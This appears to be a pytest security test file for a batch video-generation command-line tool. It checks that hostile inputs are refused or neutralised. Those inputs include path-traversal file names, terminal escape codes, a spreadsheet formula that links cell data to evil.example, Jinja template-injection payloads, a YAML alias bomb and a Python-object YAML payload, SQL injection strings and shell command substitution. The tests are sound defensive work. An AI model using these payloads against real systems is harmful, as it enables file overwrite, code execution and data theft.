"""Prompts, variables, names, templates and batch files of somebody who means harm, from the command to the disk."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from orbatch_simulator import Fault, SimulatorSettings, simulator_thread
from tests.desk import SPEED, Desk

CLEAR_SCREEN = "\x1b[2J\x1b]0;owned\x07"
BACKWARDS = "\u202egpj.exe"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'

NAMES = {
    "climbs": "../../../../etc/cron.d/evil",
    "absolute": "/etc/passwd",
    "windows": "..\\..\\C:\\evil",
    "nothing": "..",
    "null": "a\u0000b",
    "newline": "a\nb",
    "device": "CON",
    "dash": "-rf",
    "dots": "....//....//evil",
    "fullwidth": "\uff0e\uff0e\uff0fevil",
    "slash": "a\u2215b\u2044c",
    "backwards": BACKWARDS,
    "long": "x" * 10_000,
}


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    folder = tmp_path / "a" / "b" / "c" / "d" / "desk"
    folder.mkdir(parents=True)
    with simulator_thread(SimulatorSettings(speed=SPEED, render_median_s=4, clip_bytes=3000)) as simulator:
        yield Desk(folder, simulator)


def test_no_prompt_variable_or_template_puts_a_file_outside_the_output_folder(desk: Desk, tmp_path: Path) -> None:
    prompts = [
        {"id": f"p{number}", "prompt": f"a cat {number}", "vars": {"name_of_it": [value]}}
        for number, value in enumerate(NAMES.values())
    ]
    batch = desk.write(prompts=prompts, filename="{{ name_of_it }}/{{ name_of_it }}-{{ key8 }}")
    before = {path for path in tmp_path.rglob("*") if path.is_file()}

    desk.run(batch)

    made = {path for path in tmp_path.rglob("*") if path.is_file()} - before
    videos = {path for path in made if path.suffix == ".mp4"}
    out = (desk.folder / "outputs" / "films").resolve()
    assert len(videos) == len(NAMES)
    assert all(path.resolve().is_relative_to(out) for path in videos)
    ours = (out, desk.folder / "cache", desk.folder / "home")
    others = {path for path in made if not any(path.is_relative_to(place) for place in ours)}
    assert {path.name.removesuffix("-wal").removesuffix("-shm") for path in others} <= {"orbatch.db"}
    assert all(part.isprintable() and len(part.encode()) <= 255 for path in videos for part in path.parts)


def test_hostile_text_reaches_no_terminal_and_no_spreadsheet_alive(desk: Desk) -> None:
    desk.simulator.set_faults(
        Fault("submit", status=400, message=f"{CLEAR_SCREEN} refused", prompt_contains="refuse"),
        Fault("job", "failed", message=f"{CLEAR_SCREEN}{BACKWARDS}", prompt_contains="fail"),
    )
    texts = [f"{CLEAR_SCREEN}{BACKWARDS} refuse", f"{CLEAR_SCREEN} fail", f"{FORMULA} {CLEAR_SCREEN}"]
    batch = desk.write(prompts=[{"id": f"p{number}", "prompt": text} for number, text in enumerate(texts)])

    run = desk.run(batch, "--log-file", desk.folder / "run.log", code=3)
    assert desk.statuses() == ["rejected", "failed", "done"]
    shown = [
        desk.call(*words).text for words in (("status",), ("jobs",), ("plan", batch), ("report", "--by", "prompt"))
    ]
    shown += [desk.call("show", row["job_id"]).text for row in desk.jobs()]
    sheet = desk.call("report", "--by", "prompt", "--format", "csv").out

    for text in (run.text, *shown, sheet, (desk.folder / "run.log").read_text()):
        assert all(char.isprintable() or char in "\n\t" for char in text)
    cells = [cell for row in csv.reader(io.StringIO(sheet)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    rows = {row["prompt"]: row for row in desk.jobs()}
    assert set(rows) == set(texts)  # JSON is for machines and keeps every character


def test_a_template_cannot_reach_what_is_not_its_own(desk: Desk) -> None:
    for number, attack in enumerate(
        (
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ self.__init__.__globals__ }}",
            "{{ cycler.__init__.__globals__.os.environ }}",
            "{% include '/etc/passwd' %}",
            "{% for a in range(10**9) %}x{% endfor %}",
            "{{ 'x' * 10**9 }}",
        )
    ):
        batch = desk.write(f"attack{number}", prompts=[attack])
        refused = desk.call("plan", batch, code=2)
        assert "root:" not in refused.text
        assert "c0ffee" not in refused.text
    assert desk.accepted() == 0


def test_a_batch_file_that_grows_when_it_is_read_is_refused(desk: Desk) -> None:
    bomb = "\n".join(
        ["name: bomb", "models: [google/veo-3.1-lite]", "a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
        + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
        + ["prompts: *a11"]
    )
    (desk.folder / "bomb.yaml").write_text(bomb)
    refused = desk.call("plan", desk.folder / "bomb.yaml", code=2)

    assert "aliases" in refused.text
    assert len(refused.text) < 5_000


def test_a_batch_file_cannot_name_python_objects(desk: Desk) -> None:
    marker = desk.folder / "owned"
    attack = f"name: x\nmodels: [a/b]\nprompts: [!!python/object/apply:pathlib.Path.touch ['{marker}']]\n"
    (desk.folder / "attack.yaml").write_text(attack)

    desk.call("plan", desk.folder / "attack.yaml", code=2)

    assert not marker.exists()


def test_a_name_of_a_batch_is_no_path_and_no_statement(desk: Desk) -> None:
    for name in ("../evil", "a/b", "x'; drop table jobs; --", "$(touch x)"):
        path = desk.folder / "named.yaml"
        path.write_text(json.dumps({"name": name, "models": ["google/veo-3.1-lite"], "prompts": ["a cat"]}))
        assert "name" in desk.call("plan", path, code=2).text


def test_words_of_the_user_are_values_and_never_statements(desk: Desk) -> None:
    desk.run(desk.write(prompts=["a '; drop table jobs; -- cat"]))

    for words in (("show", "' or 1=1 --"), ("status", "x' or '1'='1"), ("jobs", "--only", "' or 1=1 --")):
        desk.call(*words, code=None)

    assert desk.statuses() == ["done"]
